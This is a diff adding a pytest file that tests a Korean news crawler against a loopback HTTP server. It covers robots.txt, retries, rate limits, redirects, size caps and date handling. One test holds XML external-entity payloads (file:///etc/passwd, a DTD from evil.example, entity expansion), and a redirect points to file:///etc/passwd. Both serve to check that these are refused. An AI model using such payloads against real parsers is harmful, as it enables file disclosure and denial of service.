@@ -1,0 +1,602 @@
+"""The HTTP source against a real server on 127.0.0.1 (no other network), started and stopped by the tests."""
+
+import gzip
+import socket
+import threading
+import time
+from collections import Counter
+from dataclasses import dataclass
+from datetime import UTC, date, datetime
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+from news_assets.sources.http import HttpSettings, HttpSource, Outlet
+from news_assets.sources.http.discover import DiscoveryError, Entry, parse_date, parse_document, select
+from news_assets.time import KST
+
+DAY = date(2026, 11, 16)
+UA = "news-assets-test/1.0 (+https://example.org/contact)"
+UTF8_PAGE = "<html><head><title>한빛경제</title></head><body><p>반도체 수출이 늘었다.</p></body></html>".encode()
+EUCKR_PAGE = "<html><body><p>서울일보: 지하철 요금 인상</p></body></html>".encode("cp949")
+ETAG_PAGE = "<html><body><p>변하지 않는 기사</p></body></html>".encode()
+LAST_MODIFIED = "Mon, 16 Nov 2026 01:00:00 GMT"
+
+
+@dataclass(frozen=True)
+class Seen:
+    path: str
+    host: str
+    headers: dict
+    at: float
+
+
+class Site:
+    """What the server serves and what it saw."""
+
+    def __init__(self):
+        self.lock = threading.Lock()
+        self.in_flight = 0
+        self.port = 0
+        self.reset()
+
+    def reset(self):
+        # Handlers of an earlier test may still be sleeping (timed-out slow pages); wait them out first.
+        deadline = time.monotonic() + 5
+        while self.in_flight and time.monotonic() < deadline:
+            time.sleep(0.02)
+        with self.lock:
+            self.requests: list[Seen] = []
+            self.hits = Counter()
+            self.in_flight = 0
+            self.max_in_flight = 0
+            self.robots_status = 200
+            self.robots_body = b"User-agent: *\nDisallow: /private/\n"
+            self.feeds: dict[str, bytes] = {}
+
+    def paths(self):
+        return [r.path for r in self.requests]
+
+    @property
+    def base(self):
+        return f"http://127.0.0.1:{self.port}"
+
+
+def url_entry(loc, published=None, lastmod=None):
+    news = (
+        f"<news:news><news:publication><news:name>Loopback</news:name><news:language>ko</news:language>"
+        f"</news:publication><news:publication_date>{published}</news:publication_date>"
+        f"<news:title>기사</news:title></news:news>"
+        if published
+        else ""
+    )
+    modified = f"<lastmod>{lastmod}</lastmod>" if lastmod else ""
+    return f"<url><loc>{loc}</loc>{modified}{news}</url>"
+
+
+def urlset(*entries):
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>\n'
+        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
+        'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">' + "".join(entries) + "</urlset>"
+    ).encode()
+
+
+def news_sitemap(base):
+    on_day = "2026-11-16T10:00:00+09:00"
+    return urlset(
+        url_entry(f"{base}/articles/utf8", on_day),
+        # 01:00 UTC is 10:00 in Seoul, the same day.
+        url_entry(f"{base}/articles/euckr", "2026-11-16T01:00:00Z"),
+        # 20:00 UTC is the next morning in Seoul.
+        url_entry(f"{base}/articles/tomorrow", "2026-11-16T20:00:00Z"),
+        url_entry(f"{base}/private/secret", on_day),
+        url_entry(f"{base}/slow", on_day),
+        url_entry(f"{base}/flaky", on_day),
+        url_entry(f"{base}/broken", on_day),
+        url_entry(f"{base}/throttled", on_day),
+        url_entry(f"{base}/redirect/1", on_day),
+        url_entry(f"{base}/away", on_day),
+        url_entry(f"{base}/loop/a", on_day),
+        url_entry(f"{base}/chain/0", on_day),
+        url_entry(f"{base}/to-file", on_day),
+        url_entry(f"{base}/huge", on_day),
+        url_entry(f"{base}/etag", on_day),
+        url_entry("https://elsewhere.example/story", on_day),
+        url_entry("ftp://127.0.0.1/story", on_day),
+    )
+
+
+def sitemap_index(base):
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>\n<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+        f"<sitemap><loc>{base}/sitemap-2026-10.xml</loc><lastmod>2026-10-31T23:00:00+09:00</lastmod></sitemap>"
+        f"<sitemap><loc>{base}/sitemap-2026-11.xml</loc><lastmod>2026-11-16T12:00:00+09:00</lastmod></sitemap>"
+        "</sitemapindex>"
+    ).encode()
+
+
+def rss(base):
+    return f"""<?xml version="1.0" encoding="UTF-8"?>
+<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Loopback</title>
+<item><title>RSS 기사</title><link>{base}/articles/rss</link><pubDate>Mon, 16 Nov 2026 09:30:00 +0900</pubDate></item>
+<item><title>어제</title><link>{base}/articles/rss-old</link><pubDate>Sun, 15 Nov 2026 09:30:00 +0900</pubDate></item>
+<item><title>중복</title><link>{base}/articles/utf8</link><dc:date>2026-11-16T10:00:00+09:00</dc:date></item>
+<item><title>날짜 없음</title><guid isPermaLink="true">{base}/articles/undated</guid></item>
+</channel></rss>""".encode()
+
+
+def atom(base):
+    return f"""<?xml version="1.0" encoding="utf-8"?>
+<feed xmlns="http://www.w3.org/2005/Atom"><title>Loopback</title><updated>2026-11-16T12:00:00Z</updated>
+<entry><title>Atom 기사</title><link rel="alternate" href="{base}/articles/atom"/>
+<published>2026-11-16T05:00:00Z</published><updated>2026-11-17T05:00:00Z</updated></entry>
+<entry><title>다음날</title><link href="{base}/articles/atom-later"/><updated>2026-11-17T05:00:00+09:00</updated></entry>
+</feed>""".encode()
+
+
+class Handler(BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+
+    def log_message(self, *args):
+        pass
+
+    def do_GET(self):
+        site: Site = self.server.site
+        with site.lock:
+            site.requests.append(Seen(self.path, self.headers.get("Host", ""), dict(self.headers), time.monotonic()))
+            site.hits[self.path] += 1
+            hit = site.hits[self.path]
+            site.in_flight += 1
+            site.max_in_flight = max(site.max_in_flight, site.in_flight)
+        self._done = False
+        try:
+            self.route(site, hit)
+        finally:
+            self.finish_request()
+
+    def finish_request(self):
+        # In flight ends before the answer leaves, so that the client's next request cannot overlap it here.
+        if not self._done:
+            self._done = True
+            with self.server.site.lock:
+                self.server.site.in_flight -= 1
+
+    def send(self, status, body=b"", content_type="text/html; charset=utf-8", headers=()):
+        self.finish_request()
+        self.send_response(status)
+        self.send_header("Content-Type", content_type)
+        for name, value in headers:
+            self.send_header(name, value)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def redirect(self, location, status=302):
+        self.send(status, headers=[("Location", location)])
+
+    def route(self, site, hit):
+        path = self.path
+        base = site.base
+        xml = "application/xml; charset=utf-8"
+        if path == "/robots.txt":
+            self.send(site.robots_status, site.robots_body, "text/plain")
+        elif path == "/news-sitemap.xml":
+            self.send(200, news_sitemap(base), xml)
+        elif path == "/sitemap-index.xml":
+            self.send(200, sitemap_index(base), xml)
+        elif path == "/sitemap-2026-11.xml":
+            self.send(
+                200,
+                urlset(
+                    url_entry(f"{base}/articles/from-index", lastmod="2026-11-16"),
+                    url_entry(f"{base}/articles/old", lastmod="2026-11-01"),
+                ),
+                xml,
+            )
+        elif path == "/rss.xml":
+            self.send(200, rss(base), "application/rss+xml")
+        elif path == "/atom.xml":
+            self.send(200, atom(base), "application/atom+xml")
+        elif path in site.feeds:
+            self.send(200, site.feeds[path], "application/rss+xml")
+        elif path == "/articles/euckr":
+            self.send(200, EUCKR_PAGE, "text/html; charset=EUC-KR")
+        elif path.startswith(("/articles/", "/private/")):
+            self.send(200, UTF8_PAGE)
+        elif path.startswith("/pace/"):
+            time.sleep(0.15)
+            self.send(200, UTF8_PAGE)
+        elif path == "/slow":
+            time.sleep(1.0)
+            self.send(200, UTF8_PAGE)
+        elif path == "/flaky":
+            self.send(503, b"busy") if hit <= 2 else self.send(200, UTF8_PAGE)
+        elif path == "/broken":
+            self.send(500, b"broken")
+        elif path == "/throttled":
+            self.send(429, b"slow down", headers=[("Retry-After", "1")]) if hit == 1 else self.send(200, UTF8_PAGE)
+        elif path == "/redirect/1":
+            self.redirect("/redirect/2", 301)
+        elif path == "/redirect/2":
+            self.redirect(f"{base}/articles/final", 307)
+        elif path == "/away":
+            self.redirect(f"http://localhost:{site.port}/articles/utf8")
+        elif path == "/loop/a":
+            self.redirect("/loop/b")
+        elif path == "/loop/b":
+            self.redirect("/loop/a")
+        elif path.startswith("/chain/"):
+            self.redirect(f"/chain/{int(path.rsplit('/', 1)[1]) + 1}")
+        elif path == "/to-file":
+            self.redirect("file:///etc/passwd")
+        elif path == "/huge":
+            self.finish_request()
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Connection", "close")
+            self.end_headers()
+            self.close_connection = True
+            for _ in range(40):
+                self.wfile.write(b"<p>" + b"x" * 8189 + b"</p>")
+        elif path == "/etag":
+            if self.headers.get("If-None-Match") == '"v1"':
+                self.send(304, headers=[("ETag", '"v1"')])
+            else:
+                self.send(200, ETAG_PAGE, headers=[("ETag", '"v1"'), ("Last-Modified", LAST_MODIFIED)])
+        else:
+            self.send(404, b"not found")
+
+
+class QuietServer(ThreadingHTTPServer):
+    daemon_threads = True
+    block_on_close = False
+
+    def handle_error(self, request, client_address):
+        # Clients that give up (timeouts, size cap) leave broken pipes behind; that is the point of the tests.
+        pass
+
+
+@pytest.fixture(scope="module")
+def site():
+    site = Site()
+    server = QuietServer(("127.0.0.1", 0), Handler)
+    server.site = site
+    site.port = server.server_address[1]
+    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
+    thread.start()
+    yield site
+    server.shutdown()
+    server.server_close()
+    thread.join(timeout=5)
+
+
+def settings(tmp_path, **overrides):
+    values = dict(
+        user_agent=UA,
+        max_bytes=100_000,
+        timeout_s=0.3,
+        total_timeout_s=2.0,
+        per_host_rps=50.0,
+        per_host_concurrency=4,
+        retries=2,
+        backoff_s=0.05,
+        max_retry_after_s=5.0,
+        max_redirects=3,
+        state_dir=str(tmp_path / "http_state"),
+    )
+    values.update(overrides)
+    return HttpSettings(**values)
+
+
+def loopback_outlet(site, **kwargs):
+    base = site.base
+    return Outlet(
+        "loopback",
+        sitemaps=(f"{base}/news-sitemap.xml", f"{base}/sitemap-index.xml", f"{base}/missing-sitemap.xml"),
+        feeds=(f"{base}/rss.xml", f"{base}/atom.xml"),
+        **kwargs,
+    )
+
+
+@dataclass
+class Crawl:
+    pages: dict
+    requests: list
+    state: object
+
+
+@pytest.fixture(scope="module")
+def crawl(site, tmp_path_factory):
+    """One full crawl of the loopback outlet for DAY; the tests below look at what it yielded and sent."""
+    site.reset()
+    state = tmp_path_factory.mktemp("crawl")
+    source = HttpSource(settings(state), [loopback_outlet(site)], today=lambda: DAY)
+    pages = list(source.pages(DAY))
+    by_url = {p.url: p for p in pages}
+    assert len(by_url) == len(pages), "each URL once"
+    return Crawl(by_url, list(site.requests), state)
+
+
+def page(crawl, site, path):
+    return crawl.pages[f"{site.base}{path}"]
+
+
+def requested(crawl, path):
+    return [r for r in crawl.requests if r.path == path]
+
+
+def test_the_days_articles_come_from_sitemaps_index_and_feeds(crawl, site):
+    listed = {url.removeprefix(site.base) for url in crawl.pages}
+    assert {
+        "/articles/utf8",
+        "/articles/euckr",
+        "/articles/from-index",
+        "/articles/rss",
+        "/articles/atom",
+        "/articles/undated",
+    } <= listed
+    # Other KST days, and a sitemap the index dates before the day, are not fetched.
+    for other in ("/articles/tomorrow", "/articles/old", "/articles/rss-old", "/articles/atom-later"):
+        assert other not in listed and not requested(crawl, other)
+    assert not requested(crawl, "/sitemap-2026-10.xml")
+    assert len(requested(crawl, "/articles/utf8")) == 1, "listed by the sitemap and the feed, fetched once"
+
+
+def test_korean_pages_keep_bytes_status_and_declared_charset(crawl, site):
+    utf8 = page(crawl, site, "/articles/utf8")
+    assert utf8.html == UTF8_PAGE and utf8.read_error is None and utf8.http_status == 200
+    assert utf8.declared_charset == "utf-8" and utf8.outlet == "loopback" and utf8.source == "http"
+    assert utf8.news_date == DAY and utf8.fetched_at.tzinfo is not None
+    assert utf8.location == utf8.url
+    euckr = page(crawl, site, "/articles/euckr")
+    assert euckr.html == EUCKR_PAGE and euckr.declared_charset == "euc-kr"
+    assert euckr.html.decode("cp949") == "<html><body><p>서울일보: 지하철 요금 인상</p></body></html>"
+
+
+def test_every_request_carries_the_user_agent_and_robots_is_fetched_once(crawl):
+    assert crawl.requests and all(r.headers.get("User-Agent") == UA for r in crawl.requests)
+    assert len(requested(crawl, "/robots.txt")) == 1
+    assert crawl.requests[0].path == "/robots.txt"
+
+
+def test_robots_disallowed_page_is_not_requested(crawl, site):
+    secret = page(crawl, site, "/private/secret")
+    assert secret.html is None and secret.read_error.startswith("robots_disallowed")
+    assert not requested(crawl, "/private/secret")
+
+
+def test_retries_after_503_and_429_but_not_forever_on_500(crawl, site):
+    flaky = page(crawl, site, "/flaky")
+    assert flaky.html == UTF8_PAGE and flaky.read_error is None
+    assert len(requested(crawl, "/flaky")) == 3
+    broken = page(crawl, site, "/broken")
+    assert broken.html is None and broken.http_status == 500
+    assert broken.read_error.startswith("http_error: 500") and "after 3 attempts" in broken.read_error
+    assert len(requested(crawl, "/broken")) == 3
+    throttled = page(crawl, site, "/throttled")
+    assert throttled.html == UTF8_PAGE
+    first, second = requested(crawl, "/throttled")
+    assert second.at - first.at >= 0.95, "Retry-After: 1 is honoured"
+
+
+def test_slow_page_times_out(crawl, site):
+    slow = page(crawl, site, "/slow")
+    assert slow.html is None and slow.read_error.startswith("timeout")
+    assert len(requested(crawl, "/slow")) == 3
+
+
+def test_redirects_within_the_host_are_followed(crawl, site):
+    final = page(crawl, site, "/redirect/1")
+    assert final.html == UTF8_PAGE and final.read_error is None
+    assert final.location == f"{site.base}/articles/final"
+
+
+def test_redirects_off_host_to_file_and_in_loops_are_refused(crawl, site):
+    away = page(crawl, site, "/away")
+    assert away.html is None and away.read_error.startswith("redirect_refused")
+    assert not [r for r in crawl.requests if r.host.startswith("localhost")]
+    to_file = page(crawl, site, "/to-file")
+    assert to_file.read_error.startswith("redirect_refused") and "file:///etc/passwd" in to_file.read_error
+    loop = page(crawl, site, "/loop/a")
+    assert loop.read_error.startswith("too_many_redirects")
+    assert len([r for r in crawl.requests if r.path.startswith("/loop/")]) <= 4
+    chain = page(crawl, site, "/chain/0")
+    assert chain.read_error.startswith("too_many_redirects")
+    # max_redirects=3: the first request and three hops.
+    assert len([r for r in crawl.requests if r.path.startswith("/chain/")]) == 4
+
+
+def test_urls_outside_the_configuration_are_never_fetched(crawl):
+    elsewhere = crawl.pages["https://elsewhere.example/story"]
+    assert elsewhere.html is None and elsewhere.read_error.startswith("blocked_host")
+    ftp = crawl.pages["ftp://127.0.0.1/story"]
+    assert ftp.html is None and ftp.read_error.startswith("blocked_scheme")
+
+
+def test_oversized_page_is_cut_off_at_the_cap(crawl, site):
+    huge = page(crawl, site, "/huge")
+    assert huge.html is None and huge.read_error.startswith("too_large") and huge.http_status == 200
+
+
+def test_failed_sitemap_is_a_discovery_error_page(crawl, site):
+    missing = page(crawl, site, "/missing-sitemap.xml")
+    assert missing.html is None and missing.http_status == 404
+    assert missing.read_error.startswith("discovery_error: http_error: 404")
+
+
+def test_unchanged_page_is_not_downloaded_twice(crawl, site):
+    first = page(crawl, site, "/etag")
+    assert first.html == ETAG_PAGE and "If-None-Match" not in requested(crawl, "/etag")[0].headers
+    site.reset()
+    site.feeds["/etag-feed.xml"] = rss_items(site, ["/etag"])
+    # Same state dir as the full crawl.
+    source = HttpSource(settings(crawl.state), [Outlet("loopback", feeds=(f"{site.base}/etag-feed.xml",))])
+    (again,) = source.pages(DAY)
+    (seen,) = requested_now(site, "/etag")
+    assert seen.headers.get("If-None-Match") == '"v1"'
+    assert seen.headers.get("If-Modified-Since") == LAST_MODIFIED
+    assert again.html == ETAG_PAGE and again.read_error is None and again.http_status == 200
+
+
+def rss_items(site, paths, pub_date="Mon, 16 Nov 2026 09:30:00 +0900"):
+    items = "".join(f"<item><link>{site.base}{p}</link><pubDate>{pub_date}</pubDate></item>" for p in paths)
+    return f'<?xml version="1.0"?><rss version="2.0"><channel>{items}</channel></rss>'.encode()
+
+
+def requested_now(site, path):
+    return [r for r in site.requests if r.path == path]
+
+
+def test_per_host_concurrency_is_capped(site, tmp_path):
+    site.reset()
+    site.feeds["/pace-feed.xml"] = rss_items(site, [f"/pace/{n}" for n in range(8)])
+    source = HttpSource(
+        settings(tmp_path, per_host_concurrency=2, per_host_rps=1000.0),
+        [Outlet("pace", feeds=(f"{site.base}/pace-feed.xml",))],
+    )
+    pages = list(source.pages(DAY))
+    assert len(pages) == 8 and all(p.read_error is None for p in pages)
+    assert site.max_in_flight == 2
+
+
+def test_per_host_rate_spaces_request_starts(site, tmp_path):
+    site.reset()
+    paths = [f"/articles/rate-{n}" for n in range(8)]
+    site.feeds["/rate-feed.xml"] = rss_items(site, paths)
+    rps = 20.0
+    source = HttpSource(
+        settings(tmp_path, per_host_concurrency=8, per_host_rps=rps),
+        [Outlet("rate", feeds=(f"{site.base}/rate-feed.xml",))],
+    )
+    started = time.monotonic()
+    assert len(list(source.pages(DAY))) == 8
+    elapsed = time.monotonic() - started
+    starts = sorted(r.at for r in site.requests)
+    # robots.txt, the feed and 8 pages: 10 request starts at most 20 a second.
+    assert len(starts) == 10
+    assert elapsed >= (len(starts) - 1) / rps
+    # Seen from the server, network jitter aside.
+    assert starts[-1] - starts[0] >= 0.8 * (len(starts) - 1) / rps
+
+
+@pytest.mark.parametrize(("status", "allowed"), [(503, False), (404, True), (403, True), (429, False)])
+def test_robots_failures_disallow_and_absence_allows(site, tmp_path, status, allowed):
+    site.reset()
+    site.robots_status = status
+    site.feeds["/robots-feed.xml"] = rss_items(site, ["/private/one", "/articles/two"])
+    source = HttpSource(
+        settings(tmp_path, retries=0), [Outlet("robots", feeds=(f"{site.base}/robots-feed.xml",))], today=lambda: DAY
+    )
+    pages = list(source.pages(DAY))
+    if allowed:
+        assert sorted(p.url.removeprefix(site.base) for p in pages) == ["/articles/two", "/private/one"]
+        assert all(p.read_error is None for p in pages)
+    else:
+        # Even the feed is not fetched from a host whose robots.txt is failing.
+        (feed,) = pages
+        assert feed.read_error.startswith("discovery_error: robots_disallowed")
+        assert site.paths() == ["/robots.txt"]
+
+
+def test_unreachable_host_is_a_page_not_an_exception(tmp_path):
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    # Nothing listens there now: robots.txt cannot be fetched, so the host counts as disallowed for the run.
+    source = HttpSource(
+        settings(tmp_path, retries=1), [Outlet("gone", sitemaps=(f"http://127.0.0.1:{port}/sitemap.xml",))]
+    )
+    (failed,) = source.pages(DAY)
+    assert failed.url == f"http://127.0.0.1:{port}/sitemap.xml" and failed.outlet == "gone"
+    assert failed.read_error.startswith("discovery_error: robots_disallowed")
+    assert "robots.txt unavailable (network_error" in failed.read_error
+
+
+def test_closing_the_iterator_early_stops_the_crawl(site, tmp_path):
+    site.reset()
+    site.feeds["/many-feed.xml"] = rss_items(site, [f"/pace/{n}" for n in range(20)])
+    source = HttpSource(
+        settings(tmp_path, per_host_concurrency=1), [Outlet("many", feeds=(f"{site.base}/many-feed.xml",))]
+    )
+    pages = source.pages(DAY)
+    first = next(pages)
+    assert first.read_error is None
+    pages.close()
+    assert not [t for t in threading.enumerate() if t.name.startswith("news-assets-http-")]
+    seen = len(site.requests)
+    time.sleep(0.4)
+    assert len(site.requests) <= seen + 1, "no more requests after close"
+
+
+# Discovery without a server.
+
+BASE = "https://www.hanbit-economy.co.kr"
+
+
+def test_news_sitemap_dates_and_kst_day_boundaries():
+    data = urlset(
+        url_entry(f"{BASE}/a", "2026-11-16T23:59:00+09:00"),
+        url_entry(f"{BASE}/b", "2026-11-16T15:00:00Z"),  # 00:00 on the 17th in Seoul
+        url_entry(f"{BASE}/c", "2026-11-16"),  # a date alone is that Seoul day
+        url_entry(f"{BASE}/d", "2026-11-15T23:00:00", lastmod="2026-11-16T10:00:00+09:00"),
+        url_entry(f"{BASE}/e#comments", lastmod="2026-11-16T08:00:00+09:00"),
+    )
+    document = parse_document(data, BASE, 1_000_000)
+    assert document.kind == "urlset"
+    chosen = [e.url for e in select(document.entries, DAY, today=date(2026, 12, 1))]
+    # d was published on the 15th (publication date beats lastmod); e's fragment is dropped.
+    assert chosen == [f"{BASE}/a", f"{BASE}/c", f"{BASE}/e"]
+    assert [e.url for e in select(document.entries, date(2026, 11, 17), today=DAY)] == [f"{BASE}/b"]
+
+
+def test_rss_atom_and_undated_entries():
+    feed = parse_document(rss("https://x.example"), "https://x.example/rss", 1_000_000)
+    assert feed.kind == "rss"
+    undated = "https://x.example/articles/undated"
+    assert undated in [e.url for e in select(feed.entries, DAY, today=DAY)]
+    # An undated entry says nothing about past days.
+    assert undated not in [e.url for e in select(feed.entries, DAY, today=date(2026, 11, 20))]
+    atom_doc = parse_document(atom("https://x.example"), "https://x.example/atom", 1_000_000)
+    assert [e.url for e in select(atom_doc.entries, DAY, today=DAY)] == ["https://x.example/articles/atom"]
+    # A dated listing elsewhere beats the undated one.
+    entries = [Entry("https://x.example/u"), Entry("https://x.example/u", datetime(2026, 11, 10, tzinfo=KST), 2)]
+    assert select(entries, DAY, today=DAY) == []
+
+
+def test_gzipped_sitemap_index_is_read():
+    data = gzip.compress(sitemap_index(BASE))
+    document = parse_document(data, BASE, 1_000_000)
+    assert document.kind == "sitemapindex"
+    assert [e.url for e in document.entries] == [f"{BASE}/sitemap-2026-10.xml", f"{BASE}/sitemap-2026-11.xml"]
+    with pytest.raises(DiscoveryError, match="too_large"):
+        parse_document(data, BASE, 100)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
+        b"<urlset><url><loc>&lol2;</loc></url></urlset>",
+        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY ext SYSTEM "file:///etc/passwd">]><urlset><url><loc>&ext;'
+        b"</loc></url></urlset>",
+        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><urlset/>',
+    ],
+)
+def test_entity_declarations_are_refused(data):
+    with pytest.raises(DiscoveryError, match="unsafe_xml"):
+        parse_document(data, BASE, 1_000_000)
+
+
+def test_bad_and_foreign_xml_are_discovery_errors():
+    with pytest.raises(DiscoveryError, match="bad_xml"):
+        parse_document(b"<urlset><url>", BASE, 1000)
+    with pytest.raises(DiscoveryError, match="bad_xml: root <html>"):
+        parse_document(b"<html><body/></html>", BASE, 1000)
+
+
+def test_dates_in_feed_formats():
+    assert parse_date("Mon, 16 Nov 2026 09:30:00 +0900") == datetime(2026, 11, 16, 0, 30, tzinfo=UTC)
+    assert parse_date("2026-11-16T09:30:00Z") == datetime(2026, 11, 16, 9, 30, tzinfo=UTC)
+    assert parse_date("2026-11-16 09:30:00") == datetime(2026, 11, 16, 9, 30, tzinfo=KST)
+    assert parse_date("16 November") is None and parse_date("") is None
